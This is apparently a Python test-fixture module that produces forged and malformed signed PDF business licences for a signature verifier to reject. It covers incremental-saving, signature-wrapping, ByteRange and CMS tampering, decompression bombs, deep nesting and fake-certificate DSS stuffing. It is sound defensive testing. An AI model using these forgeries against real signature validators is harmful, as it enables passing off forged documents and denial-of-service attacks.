"""Forgeries and broken files made from a genuine licence: every attack the verifier must refuse.

Each function takes the genuine signed PDF (and sometimes more) and returns the altered bytes.
They follow the attack classes of "Vulnerability Report: Attacks bypassing the signature
validation in PDF" (Mladenov et al., RUB-NDS, 2019: incremental saving, signature wrapping,
universal signature forgery) and of the "Shadow attacks" (Mainka et al., 2021), reproduced on
our own documents rather than taken from their corpus.
"""

from __future__ import annotations

import binascii
import datetime
import io
import json
import re
import zlib
from collections.abc import Callable

import pikepdf
from asn1crypto import cms, core
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

Attack = Callable[[bytes], bytes]

_BYTE_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")


def byte_range(pdf: bytes) -> tuple[int, int, int, int]:
    match = _BYTE_RANGE.search(pdf)
    assert match is not None
    a, b, c, d = (int(g) for g in match.groups())
    return a, b, c, d


def _overwrite_stream(
    writer: IncrementalPdfFileWriter, ref: generic.IndirectObject, data: bytes
) -> None:
    """Give an existing stream object new content in the next revision (same object number)."""
    stream = ref.get_object()
    stream.strip_filters()
    stream._data = stream._encoded_data = data
    writer.mark_update(ref)


def _incremental(pdf: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# -- changes after signing ------------------------------------------------------------------


def replace_page_content(pdf: bytes) -> bytes:
    """Incremental update that replaces the first page's content stream (ISA, "incremental
    saving attack"): pyHanko's intact/valid stay true, the page shows something else."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = writer.root["/Pages"]["/Kids"][0].get_object()
        forged = generic.StreamObject(stream_data=b"BT /F1 36 Tf 72 700 Td (FORGED LICENCE) Tj ET")
        page["/Contents"] = writer.add_object(forged)
        writer.update_container(page)

    return _incremental(pdf, change)


def replace_licence_data(pdf: bytes) -> bytes:
    """Incremental update that overrides the embedded licence.json with other data (a reader of
    the newest revision would show the forged company name)."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        spec = writer.root["/AF"][0].get_object()
        stream_ref = spec["/EF"].raw_get("/F")
        data = json.loads(stream_ref.get_object().data)
        data["name"]["zh"] = "东莞市伪造贸易有限公司"
        _overwrite_stream(writer, stream_ref, json.dumps(data, ensure_ascii=False).encode())

    return _incremental(pdf, change)


def info_only_update(pdf: bytes) -> bytes:
    """Incremental update that only changes /Info (the title a viewer shows)."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        info_ref = writer.trailer.raw_get("/Info")
        info = info_ref.get_object()
        info["/Title"] = generic.TextStringObject("营业执照 — 东莞市伪造贸易有限公司")
        writer.update_container(info)

    return _incremental(pdf, change)


def xmp_title_update(pdf: bytes) -> bytes:
    """Incremental update that rewrites the XMP packet with another dc:title."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        ref = writer.root.raw_get("/Metadata")
        xml = ref.get_object().data.replace(
            b"Business Licence", b"Business Licence of somebody else", 1
        )
        _overwrite_stream(writer, ref, xml)

    return _incremental(pdf, change)


def add_form_field(pdf: bytes) -> bytes:
    """Incremental update that adds a text field showing text over the licence (shadow-style
    "hide and replace" through an allowed-looking form change)."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page_ref = writer.root["/Pages"].raw_get("/Kids")[0]
        field = generic.DictionaryObject(
            {
                "/FT": generic.NameObject("/Tx"),
                "/T": generic.TextStringObject("Overlay"),
                "/V": generic.TextStringObject("Revoked? Not us."),
                "/Type": generic.NameObject("/Annot"),
                "/Subtype": generic.NameObject("/Widget"),
                "/Rect": generic.ArrayObject(
                    [generic.NumberObject(n) for n in (72, 600, 400, 650)]
                ),
                "/P": page_ref,
            }
        )
        field_ref = writer.add_object(field)
        form = writer.root["/AcroForm"]
        form["/Fields"].append(field_ref)
        writer.update_container(form)
        page = page_ref.get_object()
        annots = page.get("/Annots", generic.ArrayObject())
        annots.append(field_ref)
        page["/Annots"] = annots
        writer.update_container(page)

    return _incremental(pdf, change)


def append_after_eof(pdf: bytes) -> bytes:
    """Bytes after the final %%EOF: ignored by readers, passed by pyHanko's bottom line."""
    return pdf + b"\n% appended after signing\n1 0 obj\n(not part of the licence)\nendobj\n"


def fake_trailer_after_eof(pdf: bytes) -> bytes:
    """Junk ending in its own startxref/%%EOF that points back to the signed cross-reference
    section, so a reader sees no new revision at all."""
    startxref = re.findall(rb"startxref\s+(\d+)", pdf)[-1]
    return pdf + b"\n% junk\nstartxref\n" + startxref + b"\n%%EOF\n"


def empty_updates(pdf: bytes, count: int = 1) -> bytes:
    """Incremental updates that change nothing: harmless to the content, but bytes appended
    after signing that carry no validation data."""
    out = bytearray(pdf)
    previous = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    size = int(re.findall(rb"/Size\s+(\d+)", pdf)[-1])
    for _ in range(count):
        at = len(out)
        out += (
            b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size %d /Root 1 0 R /Prev %d >>\n"
            b"startxref\n%d\n%%%%EOF\n" % (size, previous, at)
        )
        previous = at
    return bytes(out)


def huge_array(size: int = 500_000) -> bytes:
    """A PDF of `size` bytes that is one array of integers: the most tokens pyHanko can be made
    to parse within the size limit."""
    return _minimal_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /X [" + b"1 " * (size // 2) + b"] >>",
            b"<< /Type /Pages /Kids [] /Count 0 >>",
        ]
    )


# -- the signed bytes themselves --------------------------------------------------------------


def flip_byte(pdf: bytes, position: int | None = None) -> bytes:
    """One bit flipped inside the first signed range (by default in the page content area)."""
    if position is None:
        position = pdf.index(b"/Type /Catalog") + 2 if b"/Type /Catalog" in pdf else 300
    data = bytearray(pdf)
    data[position] ^= 0x01
    return bytes(data)


def zero_contents(pdf: bytes) -> bytes:
    """/Contents hex string replaced by zeros: no signature value at all (USF)."""
    _, a, b, _ = byte_range(pdf)
    return pdf[: a + 1] + b"0" * (b - a - 2) + pdf[b - 1 :]


def truncate_contents(pdf: bytes) -> bytes:
    """The CMS inside /Contents cut in half (the rest zero-padded)."""
    _, a, b, _ = byte_range(pdf)
    hex_digits = pdf[a + 1 : b - 1]
    half = hex_digits[: len(hex_digits) // 4 * 2]
    return pdf[: a + 1] + half + b"0" * (len(hex_digits) - len(half)) + pdf[b - 1 :]


def _rewrite_byte_range(pdf: bytes, values: tuple[int, int, int, int]) -> bytes:
    match = re.compile(_BYTE_RANGE.pattern + rb" *").search(pdf)
    assert match is not None
    old = match.group(0)  # pyHanko pads the array with spaces, leaving room for edits
    new = b"/ByteRange [" + b" ".join(str(v).encode() for v in values) + b"]"
    assert len(new) <= len(old), "the new /ByteRange does not fit in place"
    new = new.ljust(len(old))  # same length: offsets stay valid
    return pdf[: match.start()] + new + pdf[match.end() :]


def byte_range_shorter(pdf: bytes) -> bytes:
    """/ByteRange that stops before the end of the file (the tail is unsigned)."""
    a, b, c, d = byte_range(pdf)
    return _rewrite_byte_range(pdf, (a, b, c, d - 200))


def byte_range_not_from_start(pdf: bytes) -> bytes:
    """/ByteRange that starts after the header."""
    a, b, c, d = byte_range(pdf)
    return _rewrite_byte_range(pdf, (a + 9, b - 9, c, d))


def byte_range_beyond_eof(pdf: bytes) -> bytes:
    a, b, c, d = byte_range(pdf)
    return _rewrite_byte_range(pdf, (a, b, c, d + 100000))


def signature_wrapping(pdf: bytes) -> bytes:
    """Signature wrapping (SWA): keep both signed ranges at their offsets but shorten the hex
    string inside the excluded gap and smuggle other bytes into the freed space (here as a
    comment, which keeps the signature dictionary parseable, so only the /ByteRange checks
    can notice)."""
    _, a, b, _ = byte_range(pdf)
    hex_digits = pdf[a + 1 : b - 1]
    # Cut at the DER length, not at trailing zeros: the signature itself may end in "0".
    head = bytes.fromhex(hex_digits[:16].decode("ascii"))
    if head[1] < 0x80:
        length = 2 + head[1]
    else:
        size = head[1] & 0x7F
        length = 2 + size + int.from_bytes(head[2 : 2 + size], "big")
    der_hex = hex_digits[: 2 * length]
    payload = b"\n% 99 0 obj << /Length 44 >> stream BT (FORGED LICENCE) Tj ET endstream\n"
    room = len(hex_digits) - len(der_hex)
    assert room > len(payload)
    gap = b"<" + der_hex + b">" + payload + b" " * (room - len(payload))
    assert len(gap) == b - a
    return pdf[:a] + gap + pdf[b:]


# -- not a licence at all ---------------------------------------------------------------------


def truncate(pdf: bytes) -> bytes:
    """Cut halfway through the last revision. A fixed fraction of the file can land just
    after an earlier revision's %%EOF, which reads as trailing garbage, not truncation."""
    previous_end = pdf.rfind(b"%%EOF", 0, len(pdf) - 5)
    return pdf[: (max(previous_end, 0) + len(pdf)) // 2]


def encrypt(pdf: bytes) -> bytes:
    """Re-saved with AES-256 encryption (any password opens it for reading)."""
    with pikepdf.open(io.BytesIO(pdf)) as document:
        out = io.BytesIO()
        document.save(out, encryption=pikepdf.Encryption(owner="owner", user="", R=6))
        return out.getvalue()


def decompression_bomb(pdf: bytes) -> bytes:
    """An incremental update whose cross-reference stream inflates to 1 GiB (a reader must
    decode it to open the file at all) — 1 MB on disk."""
    startxref = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    bomb = zlib.compress(b"\x00" * (64 * 1024 * 1024), 9)
    bomb = zlib.compress(bomb, 9)  # two layers: a 1 KB-ish stream inflating to 64 MiB
    offset = len(pdf) + 1
    obj = (
        b"\n900 0 obj\n<< /Type /XRef /Size 901 /W [1 4 2] /Index [900 1] /Root 1 0 R /Prev "
        + str(startxref).encode()
        + b" /Filter [/FlateDecode /FlateDecode] /Length "
        + str(len(bomb)).encode()
        + b" >>\nstream\n"
        + bomb
        + b"\nendstream\nendobj\n"
    )
    return pdf + obj + b"startxref\n" + str(offset).encode() + b"\n%%EOF\n"


def deeply_nested(depth: int = 100_000) -> bytes:
    """A small PDF whose catalog holds an array nested `depth` levels deep."""
    nested = b"[" * depth + b"]" * depth
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Nested " + nested + b" >>",
        b"<< /Type /Pages /Kids [] /Count 0 >>",
    ]
    return _minimal_pdf(objects)


def deeply_nested_dictionaries(depth: int = 50_000) -> bytes:
    nested = b"<< /A " * depth + b"1" + b" >>" * depth
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm " + nested + b" >>",
        b"<< /Type /Pages /Kids [] /Count 0 >>",
    ]
    return _minimal_pdf(objects)


def _minimal_pdf(objects: list[bytes]) -> bytes:
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\n".encode()
    out += f"startxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


CHANGES_AFTER_SIGNING: dict[str, Attack] = {
    "replace_page_content": replace_page_content,
    "replace_licence_data": replace_licence_data,
    "info_only_update": info_only_update,
    "xmp_title_update": xmp_title_update,
    "add_form_field": add_form_field,
    "append_after_eof": append_after_eof,
    "fake_trailer_after_eof": fake_trailer_after_eof,
    "empty_update": empty_updates,
}

SIGNED_BYTES: dict[str, Attack] = {
    "flip_byte": flip_byte,
    "zero_contents": zero_contents,
    "truncate_contents": truncate_contents,
    "byte_range_shorter": byte_range_shorter,
    "byte_range_not_from_start": byte_range_not_from_start,
    "byte_range_beyond_eof": byte_range_beyond_eof,
    "signature_wrapping": signature_wrapping,
}

BROKEN_FILES: dict[str, Attack] = {
    "truncate": truncate,
    "encrypt": encrypt,
    "decompression_bomb": decompression_bomb,
}


# -- the signature container (/Contents), outside the signed bytes ---------------------------


def _contents(pdf: bytes, index: int = 0) -> tuple[int, int]:
    """Where the `index`-th signature's hex digits are: pdf[start:end]."""
    match = list(_BYTE_RANGE.finditer(pdf))[index]
    _, a, b, _ = (int(g) for g in match.groups())
    return a + 1, b - 1


def lowercase_contents(pdf: bytes) -> bytes:
    """Every hex digit of /Contents in lower case: the same CMS, a different file (pyHanko
    writes upper case)."""
    start, end = _contents(pdf)
    return pdf[:start] + pdf[start:end].lower() + pdf[end:]


def _rewrite_cms(pdf: bytes, change: Callable[[cms.ContentInfo], None]) -> bytes:
    """Parse the signature's CMS, change it, re-encode it (DER) and re-pad it with zeros in
    place, as a signer would have written it."""
    start, end = _contents(pdf)
    digits = pdf[start:end]
    container = binascii.unhexlify(digits)
    length = cms.ContentInfo.load(container, strict=False).dump()
    info = cms.ContentInfo.load(container[: len(length)])
    change(info)
    new = binascii.hexlify(info.dump()).upper()  # mutated parts re-encoded, the rest as read
    assert len(new) <= len(digits), "the altered container does not fit"
    return pdf[:start] + new + b"0" * (len(digits) - len(new)) + pdf[end:]


def _extra_attribute() -> cms.CMSAttribute:
    # SEQUENCE { OID 1.3.6.1.4.1.99999.1, SET { OCTET STRING "smuggled" } }
    oid = core.ObjectIdentifier("1.3.6.1.4.1.99999.1").dump()
    value = core.OctetString(b"smuggled, not signed").dump()
    body = oid + b"\x31" + bytes([len(value)]) + value
    return cms.CMSAttribute.load(b"\x30" + bytes([len(body)]) + body)


def reencode_cms(pdf: bytes) -> bytes:
    """The CMS parsed and re-encoded unchanged: must stay byte-identical (a control)."""
    return _rewrite_cms(pdf, lambda info: None)


def unsigned_attribute_added(pdf: bytes) -> bytes:
    """An arbitrary unsigned attribute appended to the SignerInfo (RFC 5652 §5.3: outside the
    signature), the container re-padded."""

    def change(info: cms.ContentInfo) -> None:
        signer_info = info["content"]["signer_infos"][0]
        attributes = list(signer_info["unsigned_attrs"])
        signer_info["unsigned_attrs"] = cms.CMSAttributes([*attributes, _extra_attribute()])

    return _rewrite_cms(pdf, change)


def timestamp_unsigned_attribute_added(pdf: bytes) -> bytes:
    """The same inside the signature timestamp token's own SignerInfo (RFC 3161), which the
    TSA's signature does not cover either."""

    def change(info: cms.ContentInfo) -> None:
        signer_info = info["content"]["signer_infos"][0]
        token = signer_info["unsigned_attrs"][0]["values"][0]
        token_signer = token["content"]["signer_infos"][0]
        token_signer["unsigned_attrs"] = cms.CMSAttributes([_extra_attribute()])

    return _rewrite_cms(pdf, change)


# -- validation data (DSS) ----------------------------------------------------------------------


def _fake_certificate(size: int) -> bytes:
    """A DER SEQUENCE of `size` bytes in all that looks like a certificate to a lazy parser."""
    return b"\x30\x84" + (size - 6).to_bytes(4, "big") + b"\x00" * (size - 6)


def append_dss(pdf: bytes, certificates: list[bytes], crls: list[bytes] = ()) -> bytes:  # type: ignore[assignment]
    """An incremental update whose DSS lists `certificates` and `crls` (Flate-compressed) next
    to the genuine ones: validation data, which EN 319 142-1 §5.4 lets anyone append."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        dss = writer.root.get("/DSS")
        dss = dss.get_object() if dss is not None else generic.DictionaryObject()
        for key, items in (("/Certs", certificates), ("/CRLs", crls)):
            array = generic.ArrayObject(dss.get(key, generic.ArrayObject()))
            for item in items:
                stream = generic.StreamObject(stream_data=item)
                stream.compress()
                array.append(writer.add_object(stream))
            dss[key] = array
        writer.root["/DSS"] = writer.add_object(dss)
        writer.update_root()

    return _incremental(pdf, change)


def oversized_dss(pdf: bytes, count: int = 28, size: int = 1024 * 1024) -> bytes:
    """The reviewer's file: a genuine licence plus 28 fake 1 MiB certificates that compress to
    ~1 KB each (117 KB in all), once held in the verifier's caches for good."""
    return append_dss(pdf, [_fake_certificate(size) for _ in range(count)])


def padded_certificates_and_crls(
    pdf: bytes, issuer: x509.Name, *, certificates: int = 28, crls: int = 14
) -> bytes:
    """Validation data just under every cap, all of it new: real certificates of ~14 KiB and
    CRLs of ~100 KiB that claim to come from `issuer` but are signed by a key of our own. Each
    call makes different ones, so nothing can be found in a cache."""
    key = ec.generate_private_key(ec.SECP256R1())
    now = datetime.datetime.now(datetime.UTC)
    padding = x509.UnrecognizedExtension(
        x509.ObjectIdentifier("1.3.6.1.4.1.99999.2"), bytes(12_000)
    )
    made = []
    for n in range(certificates):
        name = x509.Name(
            [
                x509.NameAttribute(NameOID.PSEUDONYM, f"{n} " + "n" * 2000, _validate=False),
            ]
        )
        cert = (
            x509.CertificateBuilder()
            .subject_name(name)
            .issuer_name(issuer)
            .public_key(key.public_key())
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - datetime.timedelta(days=1))
            .not_valid_after(now + datetime.timedelta(days=1))
            .add_extension(padding, critical=False)
            .sign(key, hashes.SHA256())
        )
        made.append(cert.public_bytes(serialization.Encoding.DER))
    crl_padding = x509.UnrecognizedExtension(
        x509.ObjectIdentifier("1.3.6.1.4.1.99999.3"), bytes(100_000)
    )
    lists = [
        x509.CertificateRevocationListBuilder()
        .issuer_name(issuer)
        .last_update(now)
        .next_update(now + datetime.timedelta(days=1))
        .add_extension(crl_padding, critical=False)
        .add_extension(x509.CRLNumber(x509.random_serial_number()), critical=False)
        .sign(key, hashes.SHA256())
        .public_bytes(serialization.Encoding.DER)
        for _ in range(crls)
    ]
    return append_dss(pdf, made, lists)


SIGNATURE_CONTAINER: dict[str, Attack] = {
    "lowercase_contents": lowercase_contents,
    "unsigned_attribute_added": unsigned_attribute_added,
    "timestamp_unsigned_attribute_added": timestamp_unsigned_attribute_added,
}

VALIDATION_DATA: dict[str, Attack] = {
    "oversized_dss": oversized_dss,
}
